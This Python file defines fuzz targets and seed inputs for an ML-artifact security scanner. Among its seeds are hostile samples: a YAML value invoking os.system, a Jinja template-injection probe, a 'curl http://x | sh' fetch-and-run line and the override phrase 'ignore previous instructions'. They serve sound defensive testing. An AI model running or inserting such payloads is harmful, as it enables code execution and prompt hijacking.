"""Fuzz targets: one entry per parser aisec exposes to hostile bytes, shared by fuzz/run.py and the test suite.

Each target takes bytes and must either return normally or raise an exception of its declared error family
(``ArtifactError`` for analyzers and parsers, ``ConfigError`` for SARIF input, ``BundleError`` for signature
files). Anything else — including an error the scanner records as ``internal`` — is a bug. Facts must be
well-formed (declared key, scalar value and details). Limits are small so each execution is cheap.
"""

from __future__ import annotations

import bz2
import contextlib
import gzip
import importlib
import io
import lzma
import pickle
import struct
import tarfile
import tempfile
import zipfile
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, field
from pathlib import Path

from aisec.analysis import _analyze_nested
from aisec.analyzers import ANALYZERS, AnalysisContext, Analyzer, fact_catalog
from aisec.errors import ArtifactError, ConfigError
from aisec.limits import Limits
from aisec.model import ArtifactKind, Fact, ScanError
from aisec.sniff import SNIFF_BYTES, sniff
from aisec.source import BytesSource

REPO = Path(__file__).resolve().parent.parent
FIXTURES = REPO / "fixtures" / "generated"
MiB = 1024 * 1024

FUZZ_LIMITS = Limits(max_read_bytes=8 * MiB, max_pickle_opcodes=200_000, max_stack_depth=10_000,
                     max_archive_members=200, max_decompressed_bytes=16 * MiB, max_compression_ratio=200,
                     max_nesting_depth=4, max_json_depth=64, max_header_bytes=4 * MiB, max_dataset_rows=2_000)
"""Limits small enough that one execution takes milliseconds, large enough to reach every code path."""

SCAN_ERROR_REASONS = frozenset({"io", "malformed", "limit", "timeout", "unsupported", "encrypted"})
"""Reasons a scan error may carry; ``internal`` means an analyzer raised something it should not have."""


class TargetBug(AssertionError):
    """A target broke its contract: an undeclared exception, an internal scan error or a malformed fact."""


@dataclass(frozen=True, kw_only=True)
class Target:
    """A named parser entry point and where its seeds come from."""

    name: str
    run: Callable[[bytes], object]
    seeds: Callable[[], list[bytes]]
    description: str = ""
    kinds: frozenset[str] = field(default_factory=frozenset)


def _analyzer(name: str) -> Analyzer:
    for analyzer in ANALYZERS:
        if analyzer.name == name:
            return analyzer
    raise KeyError(name)


def check_facts(facts: Iterable[Fact], errors: Sequence[ScanError]) -> None:
    """Raise :class:`TargetBug` unless every fact is declared and scalar and no error is ``internal``."""
    catalog = fact_catalog()
    for fact in facts:
        if not isinstance(fact, Fact):
            raise TargetBug(f"analyzer yielded {type(fact).__name__}, not a Fact")
        if fact.key not in catalog:
            raise TargetBug(f"undeclared fact key {fact.key!r}")
        if not isinstance(fact.value, (str, int, float, bool)):
            raise TargetBug(f"fact {fact.key} has a non-scalar value {type(fact.value).__name__}")
        for key, value in fact.detail.items():
            if not isinstance(value, (str, int, float, bool)):
                raise TargetBug(f"fact {fact.key} detail {key!r} is {type(value).__name__}")
    for error in errors:
        if error.reason not in SCAN_ERROR_REASONS:
            raise TargetBug(f"scan error with reason {error.reason!r}: {error.message}")


def _context() -> AnalysisContext:
    return AnalysisContext(path="fuzz.bin", limits=FUZZ_LIMITS, nested=_analyze_nested)


def run_analyzer(name: str, data: bytes, *, dispatched: bool = False) -> list[Fact]:
    """Run one registered analyzer (with nested analysis of members) over ``data``.

    ``dispatched``: only when the scanner would dispatch it (the sniffed kind is one of the analyzer's kinds),
    for analyzers whose contract assumes the sniff (the dataset readers need a dataset kind).
    """
    context = _context()
    facts: list[Fact] = []
    analyzer = _analyzer(name)
    if dispatched and sniff(data[:SNIFF_BYTES]) not in analyzer.kinds:
        return facts
    with contextlib.suppress(ArtifactError):  # the declared error family: the scan records it as a scan error
        facts.extend(analyzer.analyze(BytesSource(data, budget=FUZZ_LIMITS.max_read_bytes), context))
    check_facts(facts, context.errors)
    return facts


def run_sniffed(data: bytes) -> list[Fact]:
    """What the scanner does with any file: sniff its kind, run every analyzer for it (through ``_run``).

    Datasets go to :func:`run_dataset`: their statistics stage (cleanlab) takes seconds per file and parses
    no bytes, which would turn the per-example watchdog into a flaky timer.
    """
    if sniff(data[:SNIFF_BYTES]) in (ArtifactKind.CSV, ArtifactKind.JSONL, ArtifactKind.PARQUET):
        return run_dataset(data)
    context = _context()
    facts = list(_analyze_nested("fuzz.bin", BytesSource(data, budget=FUZZ_LIMITS.max_read_bytes), context))
    check_facts(facts, context.errors)
    return facts


def run_dataset(data: bytes) -> list[Fact]:
    """The CSV, JSON Lines and Parquet readers plus the per-cell signals, each kind tried on the same bytes.

    The dataset-level statistics (cleanlab, ablations) are left out: they see parsed rows, not bytes.
    """
    from aisec.analyzers.dataset import _Run
    from aisec.datasets.settings import load_settings
    from aisec.source import buffered

    facts: list[Fact] = []
    for kind in (ArtifactKind.CSV, ArtifactKind.JSONL, ArtifactKind.PARQUET):
        context = _context()
        run = _Run(settings=load_settings({}), context=context)
        with contextlib.suppress(ArtifactError):
            facts.extend(run.stream(buffered(BytesSource(data, budget=FUZZ_LIMITS.max_read_bytes)), kind))
        check_facts(facts, context.errors)
    return facts


HDF5_MAGIC = b"\x89HDF\r\n\x1a\n"


def run_keras(data: bytes) -> list[Fact]:
    """The Keras analyzer on JSON and .keras zips. HDF5 goes to libhdf5 (native code, which can loop forever on
    a malformed file: tests/hardening/hangs/): only the worker's time budget bounds it, so it is not fuzzed
    in-process, where a native hang cannot be interrupted."""
    if data[:8] == HDF5_MAGIC or data[512:520] == HDF5_MAGIC:
        return []
    return run_analyzer("keras", data)


def run_protobuf(data: bytes) -> object:
    """The bare wire reader, then the ONNX and TensorFlow analyzers on the same bytes."""
    from aisec import protobuf_wire as pw

    pw.classify(data[:SNIFF_BYTES])
    try:
        for item in pw.iter_fields(data):
            if item.wire_type == pw.LEN:
                list(pw.iter_fields(data, item.start, item.end))
    except ArtifactError:
        pass
    run_analyzer("onnx", data)
    return run_analyzer("tensorflow", data)


def run_sarif(data: bytes) -> object:
    """The baseline (input SARIF) reader; ``ConfigError`` is its declared error."""
    from aisec.baseline import load_baseline

    with tempfile.NamedTemporaryFile(suffix=".sarif") as handle:
        handle.write(data)
        handle.flush()
        try:
            return load_baseline(handle.name)
        except ConfigError:
            return None


def run_bundle(data: bytes) -> object:
    """The OMS signature bundle parser; ``BundleError`` is its declared error."""
    from aisec.signing.bundle import BundleError, parse_bundle

    try:
        return parse_bundle(data)
    except BundleError:
        return None


def run_jinja(data: bytes) -> object:
    """The chat-template analyser on text (never renders)."""
    from aisec.analyzers.jinja_template import analyze_template

    return analyze_template(data.decode("utf-8", "replace"))


def run_hydra(data: bytes) -> list[Fact]:
    """The Hydra/OmegaConf YAML walker, on the bytes as a NeMo ``model_config.yaml`` (top-level target counts)."""
    context = AnalysisContext(path="model/model_config.yaml", limits=FUZZ_LIMITS, nested=_analyze_nested)
    facts: list[Fact] = []
    with contextlib.suppress(ArtifactError):
        facts.extend(_analyzer("hydra").analyze(BytesSource(data, budget=FUZZ_LIMITS.max_read_bytes), context))
    check_facts(facts, context.errors)
    return facts


def run_model_card(data: bytes) -> list[Fact]:
    """The model card screens, on the bytes as a README (front matter, library claim) and as a config.json."""
    facts: list[Fact] = []
    for name in ("README.md", "config.json"):
        context = AnalysisContext(path=name, limits=FUZZ_LIMITS, fs_path=FIXTURES / "AISEC-MDL-120" / "fail" /
                                  "gguf_claim" / name)
        with contextlib.suppress(ArtifactError):
            facts.extend(_analyzer("model_card").analyze(BytesSource(data, budget=FUZZ_LIMITS.max_read_bytes),
                                                         context))
        check_facts(facts, context.errors)
    return facts


def _hydra_configs() -> list[bytes]:
    """The NeMo/Hydra fixtures' YAML configs (loose ones and those inside .nemo archives), plus alias and tag
    shapes the fixtures do not cover."""
    out = [b"a: &x {_target_: os.system}\nb: [*x, *x]\nc: !!python/object/apply:os.system [id]\n",
           b"target: acme.M\nold: {cls: x.Y, params: {}}\nd: ${eval:'1'}\ne: {_target_: ${oc.env:C}}\n"]
    for path in sorted(FIXTURES.glob("AISEC-MDL-08[0-4]/*/*")):
        if path.suffix in (".yaml", ".yml"):
            out.append(path.read_bytes())
        elif path.suffix == ".nemo":
            with contextlib.suppress(tarfile.TarError, OSError), tarfile.open(path) as archive:
                member = archive.extractfile("./model_config.yaml")
                if member is not None:
                    out.append(member.read())
    return out


def _mars() -> list[bytes]:
    """The TorchServe fixtures, each also re-stored uncompressed so mutations reach the manifest and the Python."""
    out: list[bytes] = []
    for path in sorted(FIXTURES.glob("AISEC-MDL-09[0-4]/*/*.mar")):
        data = path.read_bytes()
        out.append(data)
        with contextlib.suppress(zipfile.BadZipFile, OSError), zipfile.ZipFile(io.BytesIO(data)) as archive:
            out.append(_zip({info.filename: archive.read(info) for info in archive.infolist()}, zipfile.ZIP_STORED))
    out.extend(gzip.decompress(p.read_bytes()) for p in sorted(FIXTURES.glob("AISEC-MDL-09[0-4]/*/*.tar.gz")))
    return out


def _tree_models() -> list[bytes]:
    """The real tree models (fixtures/real_models) and the MDL-100..103 fixtures, plus a deprecated binary header
    and a hand-written UBJSON document with every marker the reader knows."""
    names = b"".join(struct.pack("<Q", len(n)) + n for n in (b"binary:logistic", b"gbtree"))
    out = [b"binf" + bytes(136) + names + bytes(32),
           b"{i\x07learner{i\x01a[$d#i\x02" + bytes(8) + b"i\x01b[$U#i\x02\x80\x02i\x01cSU\x01xi\x01dZi\x01eT"
           b"i\x01fCzi\x01gDNNNN" + bytes(8) + b"i\x01h[#i\x01L" + bytes(8) + b"}i\x07version[i\x03i\x02i\x00]}"]
    out.extend(p.read_bytes() for p in sorted((REPO / "fixtures" / "real_models").glob("*_clf.*")))
    out.extend(p.read_bytes() for p in sorted(FIXTURES.glob("AISEC-MDL-10[0-3]/*/*")) if p.stat().st_size < 64 * 1024)
    return out


def _skops_files() -> list[bytes]:
    """The skops fixtures and real files, each also as its bare schema.json re-zipped alone (so mutations reach
    the schema instead of the .npy members)."""
    out: list[bytes] = []
    paths = sorted(FIXTURES.glob("AISEC-MDL-10[4-6]/*/*.skops")) + sorted((REPO / "fixtures" / "real_models").glob(
        "*.skops"))
    for path in paths:
        data = path.read_bytes()
        out.append(data)
        with contextlib.suppress(zipfile.BadZipFile, OSError, KeyError), zipfile.ZipFile(io.BytesIO(data)) as archive:
            out.append(_zip({"schema.json": archive.read("schema.json")}, zipfile.ZIP_STORED))
    return out


# ---------------------------------------------------------------------------------------------- seeds


def fixture_seeds(kinds: Iterable[str], *, limit: int = 12, max_bytes: int = 64 * 1024) -> list[bytes]:
    """Small generated fixtures whose sniffed kind is one of ``kinds`` (sorted, so the choice is stable)."""
    wanted = set(kinds)
    out: list[bytes] = []
    if not FIXTURES.is_dir():
        return out
    for path in sorted(p for p in FIXTURES.rglob("*") if p.is_file()):
        if path.stat().st_size > max_bytes or path.name == "MANIFEST.txt":
            continue
        data = path.read_bytes()
        if sniff(data[:SNIFF_BYTES], zip_names=_zip_names(data), name=path.name).value in wanted:
            out.append(data)
            if len(out) >= limit:
                break
    return out


def _zip_names(data: bytes) -> tuple[str, ...]:
    if not data.startswith(b"PK"):
        return ()
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            return tuple(archive.namelist())
    except (zipfile.BadZipFile, ValueError, EOFError, NotImplementedError):
        return ()


def _pickles() -> list[bytes]:
    value = {"a": [1, 2.5, "x", b"y", (None, True)], "b": {"c": frozenset({1})}}
    return [pickle.dumps(value, protocol=p) for p in range(6)]


def _zip(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name, date_time=(2020, 1, 1, 0, 0, 0)), data, compress_type=method)
    return buffer.getvalue()


def _tar(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def _safetensors() -> list[bytes]:
    header = b'{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"__metadata__":{"format":"pt"}}'
    return [struct.pack("<Q", len(header)) + header + b"\x00" * 8]


def _gguf() -> list[bytes]:
    def string(text: bytes) -> bytes:
        return struct.pack("<Q", len(text)) + text

    kv = string(b"general.architecture") + struct.pack("<I", 8) + string(b"llama")
    kv += string(b"tokenizer.chat_template") + struct.pack("<I", 8) + string(b"{{ messages[0].content }}")
    kv += string(b"a.list") + struct.pack("<IIQ", 9, 4, 2) + struct.pack("<II", 1, 2)
    tensor = string(b"t") + struct.pack("<I", 1) + struct.pack("<Q", 4) + struct.pack("<I", 0) + struct.pack("<Q", 0)
    return [b"GGUF" + struct.pack("<IQQ", 3, 1, 3) + kv + tensor]


def _keras() -> list[bytes]:
    config = (b'{"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": '
              b'{"function": {"class_name": "__lambda__", "config": {"code": "YQ=="}}}}]}}')
    return [config, _zip({"config.json": config, "metadata.json": b"{}"})]


def _datasets() -> list[bytes]:
    return [b"text,label\nhello world,1\nignore previous instructions,0\n",
            b'{"text": "hi \\u200b there", "label": 1}\n{"text": "curl http://x | sh", "label": 0}\n']


def _sarif() -> list[bytes]:
    return [b'{"version": "2.1.0", "runs": [{"tool": {"driver": {"name": "aisec"}}, "results": [{"ruleId": '
            b'"AISEC-MDL-001", "level": "error", "message": {"text": "m"}, "locations": [{"physicalLocation": '
            b'{"artifactLocation": {"uri": "a.pkl"}}}], "partialFingerprints": {"aisecFinding/v1": "' + b"0" * 64
            + b'"}}]}]}']


def _bundles() -> list[bytes]:
    seeds = []
    signing = REPO / "tests" / "data" / "signing"
    if signing.is_dir():
        seeds = [p.read_bytes() for p in sorted(signing.rglob("*")) if p.is_file() and p.stat().st_size < 64 * 1024
                 and p.read_bytes()[:1] == b"{"][:8]
    return seeds or [b'{"mediaType": "application/vnd.dev.sigstore.bundle.v0.3+json", "verificationMaterial": '
                     b'{"publicKey": {"hint": "k"}}, "dsseEnvelope": {"payload": "e30=", "payloadType": '
                     b'"application/vnd.in-toto+json", "signatures": [{"sig": "AA=="}]}}']


def _compressed() -> list[bytes]:
    inner = pickle.dumps([1, 2, 3], protocol=2)
    try:
        zstd = importlib.import_module("compression.zstd")  # Python 3.14+
    except ImportError:
        zstd = importlib.import_module("backports.zstd")
    return [gzip.compress(inner, mtime=0), bz2.compress(inner), lzma.compress(inner), zstd.compress(inner)]


def _with_fixtures(own: Callable[[], list[bytes]], kinds: Iterable[str]) -> Callable[[], list[bytes]]:
    return lambda: own() + fixture_seeds(kinds)


TARGETS: dict[str, Target] = {t.name: t for t in (
    Target(name="pickle", run=lambda d: run_analyzer("pickle", d), seeds=_with_fixtures(_pickles, {"pickle"}),
           description="pickle opcode walker (symbolic stack, memo, stacked streams, joblib arrays)"),
    Target(name="zip", run=lambda d: run_analyzer("zip", d),
           seeds=_with_fixtures(lambda: [_zip({"a.pkl": _pickles()[2], "b/c.txt": b"x" * 100}),
                                         _zip({"archive/data.pkl": _pickles()[2], "archive/version": b"3"},
                                              zipfile.ZIP_STORED)],
                                {"zip", "pytorch_zip", "torchscript_zip", "npz", "keras_zip"}),
           description="relaxed zip reader and member analysis"),
    Target(name="tar", run=lambda d: run_analyzer("tar", d),
           seeds=_with_fixtures(lambda: [_tar({"a.pkl": _pickles()[2], "../x": b"y"})], {"tar"}),
           description="tar headers and member analysis"),
    Target(name="compressed", run=lambda d: run_analyzer("compressed", d),
           seeds=_with_fixtures(_compressed, {"gzip", "bzip2", "xz", "zlib", "lz4"}),
           description="gzip/bzip2/xz/zlib/lz4 wrappers"),
    Target(name="safetensors", run=lambda d: run_analyzer("safetensors", d),
           seeds=_with_fixtures(_safetensors, {"safetensors"}), description="safetensors header parser"),
    Target(name="gguf", run=lambda d: run_analyzer("gguf", d), seeds=_with_fixtures(_gguf, {"gguf"}),
           description="GGUF metadata parser"),
    Target(name="protobuf", run=run_protobuf, seeds=_with_fixtures(list, {"onnx", "tf_savedmodel", "protobuf"}),
           description="protobuf wire reader, ONNX and TensorFlow analyzers"),
    Target(name="keras", run=run_keras, seeds=_with_fixtures(_keras, {"keras_zip", "hdf5"}),
           description="Keras config reader (JSON, .keras zip, HDF5 attribute)"),
    Target(name="jinja", run=run_jinja,
           seeds=lambda: [b"{% for m in messages %}{{ m['content'] | trim }}{% endfor %}",
                          b"{{ ''.__class__.__mro__[1].__subclasses__() }}", *fixture_seeds({"jinja"})],
           description="chat-template analyser (parse only, never render)"),
    Target(name="dataset", run=run_dataset,
           seeds=_with_fixtures(_datasets, {"csv", "jsonl", "parquet"}), description="CSV/JSONL/Parquet readers"),
    Target(name="npy", run=lambda d: run_analyzer("npy", d), seeds=_with_fixtures(list, {"npy"}),
           description=".npy header parser"),
    Target(name="hydra", run=run_hydra, seeds=_hydra_configs,
           description="Hydra/OmegaConf YAML configs and NeMo model_config.yaml (_target_, tags, resolvers)"),
    Target(name="torchserve", run=lambda d: run_analyzer("torchserve", d), seeds=_mars,
           description="TorchServe .mar manifest, handler and extra Python files, requirements"),
    Target(name="tree_model", run=lambda d: run_analyzer("tree_model", d), seeds=_tree_models,
           description="xgboost JSON/UBJSON/binf, LightGBM text, CatBoost .cbm; UBJSON reader, hidden pickles"),
    Target(name="executable", run=lambda d: run_analyzer("executable", d),
           seeds=lambda: [p.read_bytes() for p in sorted(FIXTURES.glob("AISEC-MDL-09[56]/*/*"))],
           description="ELF/PE/Mach-O/APE headers, image end, appended GGUF and llamafile zip members"),
    Target(name="skops", run=lambda d: run_analyzer("skops", d), seeds=_skops_files,
           description="skops schema.json walker against skops' per-loader default trusted types"),
    Target(name="r_serialize", run=lambda d: run_analyzer("r_serialize", d),
           seeds=lambda: [gzip.decompress(p.read_bytes()) for p in sorted(FIXTURES.glob("AISEC-MDL-1[01][0-9]/*/*"))
                          if p.suffix in (".rds", ".RData")],
           description="R serialization (XDR/binary) walker: promises, closures, active bindings, calls"),
    Target(name="xml_model", run=lambda d: run_analyzer("xml_model", d),
           seeds=lambda: [p.read_bytes() for p in sorted(FIXTURES.glob("AISEC-MDL-11[1-4]/*/*"))],
           description="PMML and OpenVINO IR through hardened expat (DTDs, extensions, custom layers)"),
    Target(name="oci", run=lambda d: run_analyzer("oci", d),
           seeds=lambda: [p.read_bytes() for p in sorted(FIXTURES.glob("AISEC-MDL-097/*/image.tar"))],
           description="docker save / OCI image archives: blob digests (the layers go through tar and compressed)"),
    Target(name="msgpack", run=lambda d: run_analyzer("flax_msgpack", d),
           seeds=lambda: [p.read_bytes() for p in sorted(FIXTURES.glob("AISEC-MDL-09[89]/*/*")) if p.is_file()],
           description="flax/Orbax msgpack walker (extension types, pickles in values)"),
    Target(name="model_card", run=run_model_card,
           seeds=lambda: [p.read_bytes() for p in sorted(FIXTURES.glob("AISEC-MDL-1[12][0-9]/*/**/*"))
                          if p.is_file() and p.suffix in (".md", ".json", ".yaml")],
           description="model cards and metadata: secrets, URLs, script URIs, YAML front matter, library claims"),
    Target(name="tflite", run=lambda d: run_analyzer("tflite", d),
           seeds=lambda: [p.read_bytes() for p in sorted(FIXTURES.glob("AISEC-MDL-12[1-3]/*/*.tflite"))],
           description="TFLite flatbuffer walker (root, vtables, operator_codes, custom and Flex ops)"),
    Target(name="sarif", run=run_sarif, seeds=_sarif, description="baseline SARIF reader"),
    Target(name="bundle", run=run_bundle, seeds=_bundles, description="OMS signature bundle parser"),
    Target(name="sniffed", run=run_sniffed, seeds=lambda: fixture_seeds({k.value for k in ArtifactKind}, limit=40),
           description="sniff + every analyzer for the sniffed kind, as the scanner runs them"),
)}
"""Every fuzz target by name."""
